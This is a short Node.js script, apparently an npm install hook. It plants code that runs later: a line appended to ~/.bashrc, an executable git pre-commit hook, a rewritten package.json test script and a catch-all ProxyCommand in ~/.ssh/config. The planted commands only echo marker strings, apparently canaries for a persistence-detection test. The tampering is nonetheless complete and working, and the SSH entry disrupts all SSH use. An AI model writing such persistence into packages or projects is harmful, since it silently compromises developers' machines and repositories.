// Plant code that runs when the developer next opens a shell, commits,
// runs the project's tests or uses ssh; none of it runs during the install.
const fs = require('fs');
const path = require('path');
const home = process.env.HOME;
const project = process.env.INIT_CWD;
fs.appendFileSync(path.join(home, '.bashrc'), '\n/bin/echo rc-fired-4b1d > /dev/null\n');
const hook = path.join(project, '.git', 'hooks', 'pre-commit');
fs.mkdirSync(path.dirname(hook), { recursive: true });
fs.writeFileSync(hook, '#!/bin/sh\n/bin/echo hook-fired-4b1d > /dev/null\n', { mode: 0o755 });
const pj = JSON.parse(fs.readFileSync(path.join(project, 'package.json')));
pj.scripts = Object.assign({}, pj.scripts, { test: '/bin/echo test-fired-4b1d && node test.js' });
fs.writeFileSync(path.join(project, 'package.json'), JSON.stringify(pj, null, 2));
fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
fs.appendFileSync(path.join(home, '.ssh', 'config'), 'Host *\n  ProxyCommand /bin/echo ssh-fired-4b1d\n');
